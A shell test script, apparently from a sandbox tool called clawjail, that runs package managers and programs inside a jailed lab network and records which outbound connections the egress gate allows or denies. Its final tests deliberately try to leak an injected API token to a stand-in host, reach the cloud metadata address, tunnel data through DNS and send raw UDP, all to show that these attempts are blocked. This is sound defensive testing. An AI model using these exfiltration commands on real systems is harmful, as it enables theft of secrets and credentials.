#!/bin/sh
# Writes what docs/egress-shown.md holds: real programs through a gate and denied by it, and the verdict of each. As root; the internet is
# that of these tests (lab.sh, world.py, registries.py), in network namespaces of this machine, and nothing else can be reached.
# Usage: sh tests/egress/shown.sh CLAWJAIL > docs/egress-shown.md
set -e
HERE=$(cd "$(dirname "$0")" && pwd)
if [ "$1" != inside ]; then
  CLAWJAIL=$(realpath "$1")
  D=$(mktemp --directory /tmp/clawjail-shown.XXXXXX)
  trap 'rm -rf "$D"' EXIT
  chmod 755 "$D"; mkdir "$D/home" "$D/work" "$D/www"; chmod 777 "$D/work"
  cp --archive /etc "$D/etc"; rm -f "$D/etc/resolv.conf"
  printf 'nameserver 45.90.0.2\n' > "$D/etc/resolv.conf"; printf '127.0.0.1 localhost\n' > "$D/etc/hosts"
  cp "$HERE/world.py" "$HERE/second.mjs" "$HERE/lab.sh" "$D"
  echo '{ "api.example": ["93.184.216.34"], "other.example": ["93.184.216.35"] }' > "$D/table.json"
  python3 "$HERE/registries.py" "$D/www" npm=npm.example pip=pip.example pip-files=files.example cargo=cargo.example apt=apt.example git=code.example > "$D/made" 2>&1
  cd "$D"
  new() { openssl req -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes "$@" 2> /dev/null; }
  new -x509 -days 30 -subj /CN=internet -keyout ca.key -out ca.pem
  new -subj /CN=server -keyout key.pem -out request.pem
  for name in api other npm pip files cargo code; do printf 'DNS:%s.example,' $name; done | sed 's/^/subjectAltName=/; s/,$//' > names
  openssl x509 -req -in request.pem -CA ca.pem -CAkey ca.key -CAcreateserial -days 30 -extfile names -out cert.pem 2> /dev/null
  cp cert.pem key.pem www; cat ca.pem >> etc/ssl/certs/ca-certificates.crt
  unshare --net --mount --propagation private sh lab.sh "$D" sh "$HERE/shown.sh" inside "$CLAWJAIL" "$D"
  exit
fi
CLAWJAIL=$2 D=$3
export HOME="$D/home"
cd "$D/work"

# Clients as their user has set them.
mkdir -p "$HOME/.config/pip" "$HOME/.cargo" cargo home; rm -rf /etc/apt/sources.list.d
echo 'registry=https://npm.example/' > "$HOME/.npmrc"
printf '[global]\nindex-url = https://pip.example/simple/\nextra-index-url = https://files.example/simple/\n' > "$HOME/.config/pip/pip.conf"
printf '[source.crates-io]\nreplace-with = "mirror"\n[source.mirror]\nregistry = "sparse+https://cargo.example/"\n' | tee "$HOME/.cargo/config.toml" > cargo/config.toml
echo 'deb [trusted=yes] http://apt.example/clawjail ./' | tee /etc/apt/sources.list > sources
# apt says what it is set to once it has been there.
mkdir -p /var/lib/apt/lists/partial /var/lib/dpkg; : > /var/lib/dpkg/status
echo '93.184.216.35 apt.example' >> /etc/hosts
apt-get -qq -o Acquire::Languages=none -o APT::Sandbox::User= update
sed -i '$d' /etc/hosts
mkdir -p /etc/clawjail/profiles /etc/clawjail/policies/egress
for client in npm pip cargo apt; do
  CARGO_HOME="$HOME/.cargo" "$CLAWJAIL" policy from-client $client > /etc/clawjail/policies/egress/$client.toml
done
SYSROOT=$(HOME=/root rustc --print sysroot 2> /dev/null || true)
MORE=${SYSROOT:+", \"$SYSROOT\""}
cat > /etc/clawjail/profiles/project.toml <<TOML
summary = "A project with packages, a repository and an interface that wants a token."
extends = "untrusted"
[filesystem]
read = ["@system", "@tls-roots"$MORE]
execute = ["@system", "@workspace"$MORE]
[limits]
memory = "2G"
processes = 512
[egress]
allow = ["@npm", "@pip", "@cargo", "@apt", "code.example", "other.example"]
hosts = { "npm.example" = "93.184.216.35", "pip.example" = "93.184.216.35", "files.example" = "93.184.216.35", "cargo.example" = "93.184.216.35", "apt.example" = "93.184.216.35", "code.example" = "93.184.216.35" }
[environment]
set = { HOME = "/workspace/home", CARGO_HOME = "/workspace/cargo", npm_config_registry = "https://npm.example/", npm_config_fetch_retries = "0", npm_config_update_notifier = "false", PIP_INDEX_URL = "https://pip.example/simple/", PIP_RETRIES = "0", PIP_DISABLE_PIP_VERSION_CHECK = "1", CARGO_NET_RETRY = "0" }
TOML
sed 's/^allow = .*/allow = ["other.example"]/' /etc/clawjail/profiles/project.toml > /etc/clawjail/profiles/closed.toml
(cat /etc/clawjail/profiles/project.toml; cat <<'TOML'
[[egress.http]]
host = "api.example"
methods = ["GET"]
paths = ["/v1/**"]
inject = { header = "Authorization", secret = "api", format = "Bearer {}" }
[egress.secrets.api]
env = "API_TOKEN"
file = "/etc/clawjail/api-token"
TOML
) > /etc/clawjail/profiles/secret.toml
echo correct-horse-battery-staple > /etc/clawjail/api-token; chmod 600 /etc/clawjail/api-token

say() { printf '%s\n' "$@"; }
# show TITLE PROFILE SCRIPT: the run, what it printed, and its verdict.
show() {
  case "$SHOWN" in *"|$1|"*) ;; *) say '' "## $1"; SHOWN="$SHOWN|$1|" ;; esac
  say '' '```console' "\$ clawjail run --profile $2 -- sh -c '$3'"
  "$CLAWJAIL" run --profile "$2" --verdict "$D/verdict" -- sh -c "$3" > "$D/printed" 2>&1 < /dev/null || code=$?
  sed "s|$D|...|g; s/clawjail[0-9a-f]\{32\}/clawjail<32 digits>/g" "$D/printed" | cut -c 1-220 | head -n 14
  say "(exit code ${code:-0})" '```' '' '```text'; code=
  python3 - "$D/verdict" <<'PYTHON'
import json, re, sys
verdict = json.load(open(sys.argv[1]))
print("verdict:", verdict["outcome"], verdict["exit_code"], "enforcement", verdict["enforcement"]["level"])
for one in (verdict.get("activity") or {}).get("connections", []):
    who = f'{one.get("name") or one.get("address")}:{one["port"]}'
    at = f' ({one["address"]})' if one.get("name") and one.get("address") else ""
    listed = "; ".join(f'{r["method"]} {r["path"]} {r.get("status") or ""} {r["decision"]}' for r in one.get("requests", []))
    print(f'  {one["decision"]}: {who}{at} {one.get("spoken") or one.get("protocol") or ""} sent {one.get("sent", 0)} received {one.get("received", 0)}; {one["rule"]}{"; " + listed if listed else ""}'[:230])
for one in verdict.get("denials", []):
    print(f'  denied: {one["kind"]} {one["what"]}, {one["count"]} times, by {one["rule"]}; remedy: {one.get("remedy")}'[:300])
PYTHON
  say '```'
}
both() { show "$1" project "$2"; show "$1" closed "$2"; }

cat <<'MARKDOWN'
# Egress, shown

What `sh tests/egress/shown.sh target/*/release/clawjail > docs/egress-shown.md` printed, as root. The registries are local, stand for the
real ones by `hosts` entries of the profile, and speak TLS with certificates that this host trusts; the sets `@npm`, `@pip`, `@cargo` and `@apt` are what
`clawjail policy from-client` made of the clients' own settings. `project` allows these sets and `code.example`; `closed` is the same profile
with `allow = ["other.example"]`; `secret` is `project` with a rule for requests that puts a token in. No proxy is set anywhere.
MARKDOWN
both npm 'npm install --no-audit --no-fund --loglevel=error clawjail-demo; node -p "require(\"clawjail-demo\")" 2>&1 | grep -E "^by|Cannot find"; rm -rf node_modules package*.json'
both pip 'python3 -m pip install --quiet --no-cache-dir --no-deps --target there clawjail-demo 2>&1 | tail -n 1; PYTHONPATH=there python3 -c "import clawjail_demo as demo; print(demo.said)" 2>&1 | tail -n 1; rm -rf there'
if [ -n "$SYSROOT" ]; then
  mkdir -p src; : > src/lib.rs
  printf '[package]\nname = "a"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\nclawjail-demo = "1"\n' > Cargo.toml
  both cargo "PATH=$SYSROOT/bin:\$PATH cargo fetch 2>&1 | tail -n 4; ls cargo/registry/src/*/; rm -rf Cargo.lock cargo/registry"
fi
both apt 'mkdir -p state/lists/partial cache/archives/partial; : > status; a() { apt-get -qq -o Dir::Etc::SourceList=$PWD/sources -o Dir::Etc::SourceParts=- -o Dir::State=$PWD/state -o Dir::State::status=$PWD/status -o Dir::Cache=$PWD/cache -o APT::Sandbox::User= -o Acquire::Retries=0 -o Acquire::Languages=none "$@"; }; a update; a download clawjail-demo; ls *.deb; rm -rf *.deb state cache status'
both git 'git clone --quiet https://code.example/demo.git; cat demo/README; rm -rf demo'
cat > ignores.py <<'PYTHON'
import http.client, ssl, sys
c = http.client.HTTPSConnection(sys.argv[1], timeout=9, context=ssl.create_default_context())
c.request("GET", "/clawjail-demo")
print(c.getresponse().status)
PYTHON
say 'fetch(process.argv[2]).then(answer => console.log(answer.status), error => console.log(error.cause?.code))' > ignores.mjs
program() { say '' "## $1" '' '```text'; cat "$2"; say '```'; SHOWN="$SHOWN|$1|"; }
program 'A Python program that ignores proxies' ignores.py
both 'A Python program that ignores proxies' 'HTTPS_PROXY=http://127.0.0.1:9 python3 ignores.py npm.example 2>&1 | tail -n 1'
program 'A Node program that ignores proxies' ignores.mjs
both 'A Node program that ignores proxies' 'HTTPS_PROXY=http://127.0.0.1:9 NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ca-certificates.crt node ignores.mjs https://npm.example/clawjail-demo'
heading='A secret that can be used and not be read'
show "$heading" secret 'echo "$API_TOKEN"; curl -sS https://api.example/v1/me'
say '' 'What the server heard, and nobody in the jail:' '' '```text'
grep authorization "$D/log" | tail -n 1
say '```' '' 'What stands for it, on its way to another host, in a field and in a compressed body; and a request that no rule allows:'
show "$heading" secret 'curl -sS -H "X-Any: $API_TOKEN" https://other.example/leak'
show "$heading" secret 'echo "$API_TOKEN" | gzip | curl -sS -H "Content-Encoding: gzip" --data-binary @- https://other.example/leak'
show "$heading" secret 'curl -sS -X DELETE https://api.example/v1/me'
say '' 'What reached the other host meanwhile:' '' '```text'
grep -c leak "$D/log" || true
say '```'
show 'Other ways out' closed 'curl -sS -m 5 https://93.184.216.34/; curl -sS -m 5 http://169.254.169.254/latest/; getent hosts c2VjcmV0.other.example; python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"x\", (\"93.184.216.34\", 443))" 2>&1 | tail -n 1'
